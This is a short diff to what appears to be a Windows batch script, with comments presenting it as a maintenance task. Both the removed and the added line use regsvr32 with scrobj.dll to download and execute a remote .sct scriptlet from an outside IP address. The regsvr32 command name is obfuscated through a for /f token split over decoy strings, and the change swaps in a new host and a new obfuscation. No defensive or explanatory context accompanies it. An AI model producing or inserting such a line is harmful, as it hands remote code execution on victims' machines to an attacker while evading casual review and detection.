@@ -1,2 +1,2 @@
-REM maintenance 9619 v4
-for /f "tokens=1 delims=;" %%i in ("regsvr32;xtyj;blma") do %%i /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
+REM task 3579 v4
+for /f "tokens=2 delims=~" %%i in ("buac~regsvr32~rxzw") do %%i /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
